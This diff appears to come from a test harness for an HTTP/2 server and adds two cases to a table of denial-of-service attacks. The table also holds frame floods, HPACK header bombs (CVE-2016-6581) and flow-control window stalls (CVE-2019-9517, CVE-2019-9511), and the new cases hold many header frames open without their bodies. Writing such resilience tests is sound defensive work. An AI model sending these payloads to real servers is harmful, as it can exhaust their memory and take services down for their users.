@@ -87,6 +87,10 @@ ATTACKS = {
     "unknown frames": Attack("frames of unknown kind", settings(), always(frame(0xbb, 0, 0, b"") * 1000)),
     "goaway flood": Attack("GOAWAY again and again", settings(), always(goaway(0) * 1000)),
     "header bomb": Attack("CVE-2016-6581", BOMB, lambda turn: frame(HEADERS, END_STREAM | END_HEADERS, 2 * turn + 3, head("/") + b"\xbe" * 16000)),
+    "header bombs below the limit": Attack("CVE-2016-6581", BOMB,
+                                           streams(lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s + 2, head("/") + b"\xbe" * 62), 50)),
+    "large heads of bodies that do not come": Attack("memory of streams", BOMB + b"".join(
+        frame(HEADERS, END_HEADERS, 2 * i + 3, head("/body", "POST") + b"\xbe" * 15) for i in range(99)), None, told=False),
     "window stall": Attack("CVE-2019-9517", settings((INITIAL_WINDOW_SIZE, 0)) + b"".join(request(2 * i + 1, BIG) for i in range(100)), None, told=False),
     "window of a byte": Attack("CVE-2019-9511", settings((INITIAL_WINDOW_SIZE, 0)) + b"".join(request(2 * i + 1, BIG) for i in range(100)),
                                lambda _turn: b"".join(window(2 * i + 1, 1) for i in range(100)), every=0.02),
